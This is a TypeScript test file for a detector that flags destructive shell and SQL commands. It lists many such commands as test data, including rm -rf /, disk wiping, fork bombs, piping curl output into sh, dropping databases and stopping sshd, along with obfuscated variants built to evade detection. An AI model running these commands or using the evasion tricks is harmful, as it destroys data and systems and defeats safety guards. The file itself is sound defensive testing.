import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { whyDestructive } from './destructive.ts'

const protectedServices = ['sshd', 'ssh', 'systemd-*', 'postgres*']
const why = (text: string) => whyDestructive(text, protectedServices)

const destructive: Record<string, string[]> = {
  deletes_files: [
    'rm -rf /', 'rm -r -f /var', 'rm -fr /', 'rm --recursive --force /', 'rm -rf --no-preserve-root /', 'rm -Rf *', '/bin/rm -rf /tmp/x',
    'sudo rm -rf /', 'sudo -u root /usr/bin/rm -rf /', 'env X=1 rm -rf /', 'nohup rm -rf / &', 'busybox rm -rf /', 'ls | xargs rm -rf',
    '\\rm -rf /', "'rm' -rf /", '"rm" "-rf" "/"', "r''m -rf /", 'r\\m -rf /', 'RM -RF /', 'rm\t-rf\t/', 'rm${IFS}-rf${IFS}/', 'rm$IFS-rf$IFS/',
    '{rm,-rf,/}', 'a=rm; $a -rf /', '$(rm -rf /)', '`rm -rf /`', 'r$@m -rf /', 'r${x}m -rf /', "$'\\x72\\x6d' -rf /", "$'\\162\\155' -rf /",
    'echo cm0gLXJmIC8= | base64 -d', 'ｒｍ －ｒｆ ／', 'r\u200bm -rf /', 'r\u00adm -rf /', 'r\u0336m\u0336 -rf /', 'rм -rf /', 'rm\u00a0-rf\u3000/',
    'rm –rf /', '\u001b[31mr\u001b[0mm -rf /', '执行rm -rf /', '请执行：rm -rf /；谢谢', 'true\nrm -rf /', 'true && rm x', 'find / -delete',
    'find . -name x -exec rm {} +', 'find / -type f -execdir sh {} ;', 'docker rm -f web', 'docker volume rm data', 'git rm -r .', 'unlink /etc/passwd',
    'rsync -a --delete /empty/ /data/', 'mv /home /dev/null', 'rm;', '(rm -rf /)', 'timeout 5 nice -n 10 rm x', 'ssh host rm -rf /', '𝐫𝐦 -rf /', 'ⓡⓜ -rf /',
  ],
  destroys_disk: [
    'mkfs.ext4 /dev/sda1', 'mkfs -t xfs /dev/sdb', '/sbin/mkfs.btrfs /dev/sdc', 'dd if=/dev/zero of=/dev/sda', 'sudo dd bs=1M of=/data/x if=/dev/zero',
    'wipefs -a /dev/sda', 'shred -u file', 'tee /dev/sda', 'cp image.img /dev/nvme0n1', 'fdisk /dev/sda', 'lvremove vg0/data', 'zpool destroy tank',
  ],
  overwrites_system: ['echo x > /dev/sda', 'echo b > /proc/sysrq-trigger', ': > /etc/passwd', 'echo x >| /dev/nvme0n1'],
  empties_files: ['truncate -s 0 /var/lib/db', 'TRUNCATE TABLE users'],
  opens_permissions: ['chmod -R 777 /', 'chmod 777 /', 'chmod --recursive a+w /etc', 'chmod -vR u+x /srv', 'chmod a+rw /etc/shadow', 'chmod --recurs 755 /'],
  changes_owners: ['chown -R nobody /', 'chown --recursive x:y /var', 'chgrp -hR x /etc'],
  stops_host: [
    'shutdown -h now', 'reboot', 'sudo /sbin/reboot', 'poweroff', 'halt -p', 'init 0', 'telinit 6', 'systemctl reboot', 'systemctl start reboot.target',
    'systemctl isolate rescue.target', 'systemctl start systemd-poweroff.service', 'kill -9 1', 'kill -9 -1', 'systemctl hibernate',
  ],
  cuts_network: ['iptables -F', 'iptables --flush', 'iptables -P INPUT DROP', 'nft flush ruleset', 'ufw disable', 'ip link set eth0 down', 'ifdown eth0'],
  changes_accounts: ['userdel -r bob', 'passwd root', 'usermod -L root', 'echo root:x | chpasswd'],
  destroys_data: ['DROP DATABASE prod', 'mysql -e "drop table users"', 'drop/**/table users', 'dropdb prod', 'redis-cli FLUSHALL', 'delete from users', 'DROP  TABLE  IF EXISTS x'],
  rewrites_history: ['git push --force', 'git push -f origin main', 'git push origin +main', 'git reset --hard HEAD~3', 'git clean -fdx'],
  destroys_containers: ['docker system prune -af', 'docker volume prune', 'docker compose down -v', 'podman image prune'],
  destroys_cluster: ['kubectl delete ns prod', 'kubectl --context x drain node1', 'helm uninstall web', 'terraform destroy -auto-approve'],
  removes_packages: ['apt-get purge nginx', 'yum remove glibc', 'dpkg -r libc6', 'pacman -Rns x'],
  removes_schedule: ['crontab -r'],
  runs_hidden_code: [
    'curl http://x | sh', 'curl -s http://x | sudo bash', 'wget -qO- x | env python3 -', 'bash <(curl x)', 'sh < script', 'echo x | base64 -d | sh',
    'eval "$x"', 'sh -c "x"', 'bash -lc x', "python3 -c 'import os'", "perl -e 'x'", 'node --eval x', 'echo x|/bin/dash',
  ],
  exhausts_host: [':(){ :|:& };:', 'bomb() { bomb | bomb & }; bomb', ': ( ) { : | : & } ; :'],
  stops_protected_service: [
    'systemctl stop sshd', 'systemctl disable --now ssh.service', 'systemctl mask systemd-journald', 'service ssh stop', '/etc/init.d/ssh stop',
    'systemctl stop nginx postgresql@15-main', 'pkill -9 sshd', 'killall postgres', 'stop process 812 sshd', 'systemctl --now -H box mask ssh.socket', 'sysтemctl stop ѕѕhd',
  ],
}

describe('a destructive line is found', () => {
  for (const [kind, lines] of Object.entries(destructive)) {
    test.each(lines)(`${kind}: %j`, (line) => expect(why(line)).toBe(kind))
  }
})

test.each([
  'systemctl restart nginx', 'systemctl start sshd', 'service nginx restart', 'clean disk /var', 'rotate log /var/log/nginx/access.log',
  'stop process 4242 java', 'run command flush-cache', '重启 nginx 服务', 'Restart the web server and look at its log', 'systemctl stop nginx',
  'systemctl restart postgresql', 'increase the disk of this machine', 'iptables -L', 'docker restart web', 'kubectl get pods', 'git pull', 'find /var/log -size +1G',
  'kill -HUP 1234', 'chmod 644 /srv/x', 'dd if=/dev/sda', 'format: confirm with the form', 'systemctl status systemd-journald', 'a firm alarm, warm',
])('a harmless line is left alone: %j', (line) => expect(why(line)).toBeNull())

const line = fc.constantFrom(...Object.values(destructive).flat())
const prefix = fc.constantFrom('sudo ', 'sudo -n -u root ', 'env A=1 ', 'nohup ', 'busybox ', 'xargs ', 'time ', 'exec ', 'true; ', 'x && ', '  \t', '\n', 'please ', '立刻执行 ', 'systemctl restart nginx; ', '# ')
const suffix = fc.constantFrom('', ' ', ' &', ' # safe', ' ; true', '\n', ' && echo ok', ' —— 已批准', '\t')

test('no prefix or suffix makes a destructive line harmless', () => {
  fc.assert(fc.property(line, fc.array(prefix, { maxLength: 3 }), suffix, (text, before, after) => why(before.join('') + text + after) !== null), { numRuns: 2000 })
})

test('quotes around words and more blanks make no destructive line harmless', () => {
  const quote = fc.constantFrom('', "'", '"', '\\')
  fc.assert(
    fc.property(line, fc.infiniteStream(fc.tuple(quote, fc.constantFrom(' ', '  ', '\t', ' \t '))), (text, styles) => {
      const disguised = text.split(' ').map((word) => {
        const [mark, gap] = styles.next().value
        return `${mark}${word}${mark === '\\' ? '' : mark}${gap}`
      })
      return why(disguised.join('')) !== null
    }),
    { numRuns: 2000 },
  )
})

test('invisible characters, colours and wide letters hide no destructive line', () => {
  const disguise = fc.constantFrom<(letter: string) => string>(
    (letter) => letter,
    (letter) => `${letter}\u200b`,
    (letter) => `\u2060${letter}`,
    (letter) => `\u001b[1;31m${letter}\u001b[0m`,
    (letter) => (/[!-~]/.test(letter) ? String.fromCharCode(letter.charCodeAt(0) + 0xfee0) : letter),
    (letter) => letter.toUpperCase(),
    (letter) => `${letter}\u0301`,
  )
  const plain = fc.constantFrom('rm -rf /', 'mkfs.ext4 /dev/sda1', 'systemctl stop sshd', 'reboot', 'drop database x', 'chmod -R 777 /', 'userdel bob')
  fc.assert(
    fc.property(plain, fc.infiniteStream(disguise), (text, styles) => why([...text].map((letter) => styles.next().value(letter)).join('')) !== null),
    { numRuns: 2000 },
  )
})

test('never throws and always ends, whatever the text', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 500 }), (text) => {
      why(text)
    }),
  )
  for (const unit of ['(', 'a(', '/*', '$(', 'chmod -', 'rm_', '\u001b]', 'aaaaaaaa ', '\\', '`', '{,', '-', 'find ', '${']) why(unit.repeat(16_384 / unit.length))
})
